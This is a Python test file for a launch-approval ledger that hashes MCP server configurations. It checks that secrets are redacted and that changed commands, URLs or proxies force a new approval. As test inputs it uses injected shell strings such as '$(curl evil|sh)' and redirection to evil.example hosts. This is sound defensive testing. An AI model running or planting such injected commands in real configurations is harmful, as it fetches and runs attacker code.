"""How a server is started or reached, as the ledger keeps it and as a person sees it."""

import json
from collections.abc import Mapping, Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.config.planted_secrets import BY_LOOKS, BY_PLACE, NUMBERS, SECRET
from support.schemas.json_values import json_values

from quarterdeck.trust.judge.documents import Document, value_of
from quarterdeck.trust.judge.launches import Launch, launch_of, redacted_launch, revealed, stands_in
from quarterdeck_protocol.configs import (
    AskMode,
    SseServerConfig,
    StdioServerConfig,
    StreamableHttpServerConfig,
    TrustMode,
)

JSON = json_values(max_leaves=20)


KEY = b"the key beside the ledger"


def stdio(**fields: Any) -> Document:
    return launch_of(StdioServerConfig(**{"id": "s", "command": "npx", **fields})).document


def written(row: Mapping[str, object]) -> Any:
    config = StdioServerConfig(id="s", command="npx") if "command" in row else SseServerConfig(id="s", url="http://h/")
    return value_of(launch_of(config, row).document.body)


@pytest.mark.parametrize(
    "changed",
    [
        *({"command": "node"}, {"args": ["-y", "evil"]}, {"cwd": "/elsewhere"}),
        *({"env": {"TOKEN": "x", "NODE_OPTIONS": "x"}}, {"inherit_env": ["HOME"]}),
        *({"sandbox": {"preset": "trusted"}}, {"envFile": "other.env"}),
    ],
)
def test_every_way_to_run_something_else_is_another_launch(changed: dict[str, object]) -> None:
    """A changed configuration file would run what nobody approved."""
    row: dict[str, object] = {"command": "npx", "args": ["-y", "good"], "env": {"TOKEN": "x"}}
    config = StdioServerConfig(id="s", command="npx")
    assert launch_of(config, row).document.hash != launch_of(config, row | changed).document.hash


@pytest.mark.parametrize(
    "changed",
    [
        {"url": "https://evil.example/mcp"},
        {"headers": {"X-A": "1", "X-B": "1"}},
        {"proxy": "http://evil.example:8080"},
        {"ca_file": "/tmp/evil.pem"},
        {"client_cert": "/tmp/other.pem"},
    ],
)
def test_every_way_to_reach_something_else_is_another_launch(changed: dict[str, object]) -> None:
    """A changed configuration file would send a user's data elsewhere."""
    row: dict[str, object] = {"url": "https://good.example/mcp", "headers": {"X-A": "1"}}
    config = SseServerConfig(id="s", url="https://good.example/mcp")
    assert launch_of(config, row).document.hash != launch_of(config, row | changed).document.hash


@pytest.mark.parametrize(
    ("said", "member"),
    [
        ({"protocol": "2025-11-25"}, {"protocol": "2025-11-25"}),
        ({"trust": TrustMode.OPEN}, {"trust": "open"}),
        ({"ask": AskMode.ALLOW}, {"ask": "allow"}),
        ({"ask": AskMode.LABEL}, {}),
    ],
)
def test_what_counts_of_a_row_is_part_of_its_launch_wherever_it_is_said(
    said: dict[str, Any], member: dict[str, object]
) -> None:
    """A row could be opened from the top of its file; or each row wait for approval after an update."""
    row = {"command": "npx", "ask": "label"}
    launch = launch_of(StdioServerConfig(id="s", command="npx", **said), row)
    assert value_of(launch.document.body) == {**written(row), **member}
    assert (launch.document.hash == launch_of(StdioServerConfig(id="s", command="npx"), row).document.hash) == (
        not member
    )


def test_another_transport_is_another_launch() -> None:
    """The same URL, spoken to in another way, would pass unseen."""
    kinds = (SseServerConfig, StreamableHttpServerConfig)
    assert len({launch_of(kind(id="s", url="https://h/")).document.hash for kind in kinds}) == 2


def test_values_of_variables_and_headers_are_nobodys_business() -> None:
    """A secret would lie in the ledger for good."""
    row = {"command": "npx", "env": {"B_TOKEN": "hunter2", "A": "${A}"}}
    assert written(row)["env"] == ["A", "B_TOKEN"]
    assert written({"url": "http://h/", "headers": {"Authorization": "NameOwner hunter2"}})["headers"] == [
        "Authorization"
    ]
    assert stdio(env={"A": "one"}).hash == stdio(env={"A": "two"}).hash


@given(st.dictionaries(st.sampled_from(["command", "args", "env", "cwd", "sandbox", "url", "headers", "trust"]), JSON))
def test_whatever_a_row_holds_has_a_launch(row: dict[str, object]) -> None:
    """A row that a loader refuses later would end the supervisor first."""
    for config in (StdioServerConfig(id="s", command="x"), SseServerConfig(id="s", url="http://h/")):
        assert len(launch_of(config, row).document.hash) == 64


def launch(args: Sequence[str] = (), key: bytes = KEY, *, is_project: bool = False, **members: object) -> Launch:
    row = {"command": "npx", "args": list(args), **members}
    return launch_of(StdioServerConfig(id="s", command="npx"), row, key, is_project=is_project)


@pytest.mark.parametrize("args", [*BY_PLACE, *NUMBERS, *((secret,) for secret in BY_LOOKS)], ids=" ".join)
@pytest.mark.parametrize("is_project", [False, True])
def test_no_planted_secret_is_kept(args: tuple[str, ...], is_project: bool) -> None:
    """It would lie in the ledger for good, and a changed one would not be noticed."""
    kept = launch(args, is_project=is_project)
    planted = [secret for secret in (SECRET, "94123456", *BY_LOOKS) if any(secret in arg for arg in args)]
    assert planted
    for secret in planted:
        assert secret.encode() not in kept.document.body
        assert json.dumps(secret)[1:-1].encode() not in kept.document.body
        changed = [arg.replace(secret, f"{secret[:-1]}{'0' if secret[-1] != '0' else '1'}") for arg in args]
        assert launch(changed, is_project=is_project).document.hash != kept.document.hash
    assert kept.document.hash != launch(args, b"another key", is_project=is_project).document.hash


def test_a_strangers_values_are_kept_hidden_and_shown_whole() -> None:
    """A project's password would lie in the ledger; or something that runs could hide behind the name of one."""
    row = {"env": {"API_KEY": SECRET, "PATH": "/evil"}, "cwd": f"/x?token={SECRET}"}
    found = launch(["--token", "x; curl evil"], is_project=True, **row)
    kept, shown = value_of(found.document.body), value_of(found.shown)
    assert isinstance(kept, dict)
    assert isinstance(shown, dict)
    assert kept["env"]["PATH"] == "/evil"
    assert kept["env"]["API_KEY"].startswith("(secret ")
    assert shown["env"] == row["env"]
    assert shown["args"] == ["--token", "x; curl evil"]
    remote = launch_of(SseServerConfig(id="s", url="http://h/"), {"headers": {"X": SECRET}}, KEY, is_project=True)
    assert SECRET.encode() not in remote.document.body
    assert SECRET.encode() in remote.shown


def test_what_could_be_a_command_is_shown_to_who_decides() -> None:
    """Whoever may write a user's file would hide what runs behind the name of a secret."""
    found = launch(["--token", "$(curl evil|sh)", "--key", SECRET])
    assert b"$(curl evil|sh)" in found.shown
    assert SECRET.encode() not in found.shown
    assert b"curl evil" not in found.document.body


OLD_FORMS = (
    (["--api-key", SECRET], ["--api-key", "{0}"]),
    (["--key", SECRET], ["--key", SECRET]),
    (["--tokenizer", "gpt2"], ["--tokenizer", "(secret {gpt2})"]),
    ([f"https://u:{SECRET}@h/?api_key={SECRET}"], ["https://u:{0}@h/?api_key={0}"]),
    (["--header", f"Authorization: NameOwner {SECRET}"], ["--header", "Authorization: NameOwner {0}"]),
    (["--pwd", f"a {SECRET}"], ["--pwd", f"a {SECRET}"]),
)


@pytest.mark.parametrize(("args", "kept"), OLD_FORMS, ids=" ".join)
def test_a_launch_that_older_rules_hid_in_another_way_is_recognised(args: list[str], kept: list[str]) -> None:
    """After an update every server with a secret in its command line would be held."""
    stand_in = stands_in(KEY)
    old = [each.replace("{0}", stand_in(SECRET)).replace("(secret {gpt2})", stand_in("gpt2")) for each in kept]
    body = json.dumps({"transport": "stdio", "command": "npx", "args": old, "env": [], "trust": "baseline"}).encode()
    assert launch(args).is_described_by(body)
    assert not launch([*args[:-1], f"{args[-1]}x"]).is_described_by(body)
    assert launch(args, b"another key").is_described_by(body) is (old == args)
    assert launch(args).compared(body) == value_of(launch(args).shown)
    assert launch(args).is_described_by(redacted_launch(body, KEY))


def test_a_strangers_launch_that_was_kept_in_clear_is_recognised() -> None:
    """Approved projects would be held after an update."""
    row = {"env": {"API_KEY": SECRET}, "cwd": "/x"}
    found = launch(["--pass", SECRET], is_project=True, **row)
    old = found.shown
    assert SECRET.encode() in old
    assert found.is_described_by(old)
    redacted = redacted_launch(old, KEY)
    assert SECRET.encode() not in redacted
    assert found.is_described_by(redacted)
    other = launch(["--pass", SECRET], is_project=True, env={"API_KEY": "other"}, cwd="/x")
    assert not other.is_described_by(old)
    assert not other.is_described_by(redacted)


def test_a_stand_in_that_somebody_writes_is_no_secret_it_stands_for() -> None:
    """Who can read a ledger could write a row that passes for the approved one."""
    approved = launch(["--token", SECRET])
    forged = launch(["--token", stands_in(KEY)(SECRET)])
    assert forged.document.hash != approved.document.hash
    assert not forged.is_described_by(approved.document.body)
    assert not forged.is_described_by(forged.shown)


@given(st.lists(st.text("ab=-:/@ (){}\"'", max_size=12), max_size=4), st.booleans())
def test_a_launch_is_always_described_by_what_is_kept_of_it(args: list[str], is_project: bool) -> None:
    """Cleaning a ledger, or an update, would hold a server that nobody changed."""
    found = launch(args, is_project=is_project)
    assert found.is_described_by(found.document.body)
    clear = json.dumps(found.clear).encode()
    assert found.is_described_by(redacted_launch(clear, KEY))
    assert redacted_launch(redacted_launch(clear, KEY), KEY) == redacted_launch(clear, KEY)


def test_what_cannot_be_read_describes_nothing() -> None:
    """A damaged ledger would end the supervisor."""
    for body in (None, b"", b"null", b"[]", b"{}", b'{"args": "x"}'):
        assert not launch(["x"]).is_described_by(body)
    assert redacted_launch(b"null", KEY) == b"null"


def test_a_riddle_of_stand_ins_ends() -> None:
    """A crafted ledger would hang every command."""
    stored = "a(secret 000000000000)" * 30
    assert revealed(stored, "a" * 5_000, "shown", KEY) == stored


def test_how_a_row_logs_in_is_a_part_of_how_its_server_is_reached() -> None:
    """A row that is given another issuer, or another client, would send its secret there unseen."""

    def login(**auth: object) -> Any:
        row = {"url": "https://a.example/mcp", "auth": auth}
        return launch_of(SseServerConfig(id="s", url="https://a.example/mcp"), row, KEY)

    one = login(client_id="ci", client_secret="hunter2-hunter2", issuer="https://as.example")
    assert b"hunter2" not in one.document.body
    assert b"hunter2" not in one.shown
    assert b'"client_id":"ci"' in one.document.body
    others = [login(client_id="ci", client_secret="other", issuer="https://as.example"), login(client_id="ci"), login()]
    assert len({each.document.hash for each in (one, *others)}) == 4
    bare = launch_of(SseServerConfig(id="s", url="https://a.example/mcp"), {"url": "https://a.example/mcp"}, KEY)
    assert bare.document.hash == login().document.hash, "rows of before stay approved"
